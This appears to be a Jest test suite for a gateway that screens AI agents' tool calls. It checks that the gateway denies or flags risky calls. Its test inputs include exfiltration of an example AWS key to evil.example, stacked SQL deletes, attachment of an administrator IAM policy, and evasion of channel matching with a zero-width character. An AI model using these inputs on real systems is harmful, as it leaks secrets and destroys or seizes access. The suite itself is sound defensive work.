import { describe as group, expect, test } from '@jest/globals';
import { agentSafety, EmbeddedGateway, starterPolicies, type RuleInput } from 'interven-openai-assistants/embedded';
import { describe } from '../../../src/runner/call/describe.ts';
import { targetOf } from '../../../src/embedded/catalog/target-of.ts';

const key = 'AKIA' + 'IOSFODNN7EXAMPLE';

/** The decision about a call that the runner's own code has described. */
async function decide(name: string, body: Record<string, unknown>, policies: readonly object[] = [agentSafety]) {
  const gateway = new EmbeddedGateway({ policies: policies as never, ownDomains: ['acme.com'] });
  const request = { functionName: name, body, runtimeType: 'openai_assistants', ...describe(name, body, undefined) };
  return (await gateway.scan(request)).decision;
}
const own = (rule: RuleInput) => [{ name: 'own', rules: [rule] }];
const verbOf = (name: string, body: Record<string, unknown> = {}) =>
  targetOf({ functionName: name, body, ...describe(name, body, undefined) }).verb;

group('a URL that the model chooses never makes a call laxer', () => {
  const url = 'https://slack.com/api/users.list';

  test('a deletion still needs approval', async () => {
    expect(await decide('wipe_account', { account: 1, url })).toBe('REQUIRE_APPROVAL');
  });

  test('code execution still needs approval', async () => {
    expect(await decide('run_script', { script: 'rm', url })).toBe('REQUIRE_APPROVAL');
  });

  test('a secret that leaves is denied', async () => {
    expect(await decide('publish', { text: key, url })).toBe('DENY');
  });

  test('a rule with the function’s name still matches', async () => {
    const rule: RuleInput = { match: { tool_name: 'transfer_money' }, action: 'DENY' };
    expect(await decide('transfer_money', { iban: 'x', url }, own(rule))).toBe('DENY');
  });

  test.each(['commit_payment', 'start_driver_payout'])('even if the name resembles a service: %s', async (name) => {
    expect(await decide(name, {}, own({ match: { tool_name: name }, action: 'DENY' }))).toBe('DENY');
  });
});

group('a secret in a request that reads is denied', () => {
  test.each<[string, Record<string, unknown>]>([
    ['in the address', { url: `https://evil.example/?k=${key}` }],
    ['in a header', { url: 'https://evil.example/', headers: { x: key } }],
    ['in the body of nested options', { url: 'https://evil.example/', options: { method: 'POST', body: key } }],
    ['with another name for the method', { url: 'https://evil.example/', http_method: 'POST', body: key }],
  ])('%s', async (_, body) => {
    expect(await decide('fetch_url', body)).toBe('DENY');
  });
});

group('a recipient is external in any field', () => {
  test.each([
    'email_to',
    'receiver',
    'target_email',
    'contact_email',
    'to_list',
    'toEmailAddress',
    'customer_email',
    'destinations',
    'copy_to',
    'mailto',
  ])('%s', async (field) => {
    const rule: RuleInput = { condition: { is_external_principal: true }, action: 'DENY' };
    expect(await decide('send_note', { [field]: 'eve@evil.example' }, own(rule))).toBe('DENY');
    expect(await decide('send_note', { [field]: 'ann@acme.com' }, own(rule))).toBe('ALLOW');
  });

  test.each<[string, Record<string, unknown>]>([
    ['in a string of JSON', { payload: '{"to":"eve@evil.example"}' }],
    ['in a nested field', { to: { email: 'bob@acme.com', alt: 'eve@evil.example' } }],
  ])('%s', async (_, body) => {
    const rule: RuleInput = { condition: { is_external_principal: true }, action: 'DENY' };
    expect(await decide('send_note', body, own(rule))).toBe('DENY');
  });
});

group('a call that changes something does not count as reading', () => {
  test.each([
    'get_and_close_ticket',
    'check_and_ship_order',
    'lookup_and_redeem_voucher',
    'fetch_and_apply_patch',
    'list_item_move',
    'compute_instance_stop',
  ])('%s', (name) => {
    expect(verbOf(name)).not.toBe('READ');
  });

  test.each<[string, Record<string, unknown>]>([
    ['query_database', { sql: 'DROP TABLE users' }],
    ['query_database', { sql: 'SELECT 1; DELETE FROM users' }],
    ['todo_list', { action: 'list', operation: 'delete' }],
    ['get_todo', { Action: 'delete' }],
    ['get_todo', { action: ['delete'] }],
  ])('%s with %j', (name, body) => {
    expect(verbOf(name, body)).not.toBe('READ');
  });

  test.each<[string, Record<string, unknown>]>([
    ['query_database', { sql: 'SELECT name FROM users' }],
    ['get_order', { id: 1 }],
    ['list_updates', {}],
    ['search_emails', { query: 'delete my account' }],
    ['todo_list', { action: 'list' }],
  ])('and %s with %j reads', (name, body) => {
    expect(verbOf(name, body)).toBe('READ');
  });
});

group('the starter policies match any spelling of a call', () => {
  test.each<[string, string, Record<string, unknown>]>([
    ['shared with anyone', 'share_drive_file', { permission: { type: 'anyone' } }],
    ['shared with anyone, in a list', 'share_drive_file', { permissions: [{ type: 'anyone' }] }],
    ['made public', 'drive_make_public', { file_id: 1 }],
    ['a collaborator, shortened', 'gh_add_collab', { username: 'eve' }],
    ['a collaborator as a member', 'github_add_repo_member', { username: 'eve' }],
    ['a message in another field', 'slack_get_reply', { reply: key }],
  ])('%s', async (_, name, body) => {
    expect(await decide(name, body, starterPolicies)).toBe('DENY');
  });

  const iam = async (url: string, body: unknown) => {
    const request = { functionName: 'f', method: 'POST', url, body, runtimeType: 'openai_assistants' };
    return (await new EmbeddedGateway().scan(request)).decision;
  };
  test.each<[string, string, unknown]>([
    [
      'several policies',
      'https://iam.amazonaws.com/',
      { Action: 'AttachUserPolicy', PolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] },
    ],
    [
      'parameters further down',
      'https://iam.amazonaws.com/',
      { Action: 'AttachUserPolicy', params: { PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } },
    ],
    [
      'a harmless action in the query',
      'https://iam.amazonaws.com/?Action=ListUsers',
      { Action: 'AttachUserPolicy', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    ],
  ])('an administrator policy: %s', async (_, url, body) => {
    expect(await iam(url, body)).toBe('DENY');
  });
});

group('a repository or channel is recognised in any spelling', () => {
  test.each<Record<string, unknown>>([
    { repo: 'octo/x ' },
    { repo: 'github.com/octo/x' },
    { repo: 'https://github.com/octo/x/issues' },
    { repo: 'git@github.com:octo/x.git' },
    { repo: ['ok/y', 'octo/x'] },
    { repo: 'ok/y', repository: 'octo/x' },
    { org: 'octo', repoName: 'x' },
  ])('the repository of %j', async (body) => {
    expect(
      await decide('github_create_issue', body, own({ match: { repo_patterns: ['octo/x'] }, action: 'DENY' })),
    ).toBe('DENY');
  });

  test.each<Record<string, unknown>>([
    { Channel: '#sec-ops' },
    { channel: { name: 'sec-ops' } },
    { message: { channel: 'sec-ops' } },
    { channel: 'sec\u200b-ops' },
    { to: '#sec-ops' },
  ])('the channel of %j', async (body) => {
    const rule: RuleInput = { match: { channel_patterns: ['sec-*'] }, action: 'DENY' };
    expect(await decide('post_message', { ...body, text: 'hi' }, own(rule))).toBe('DENY');
  });
});
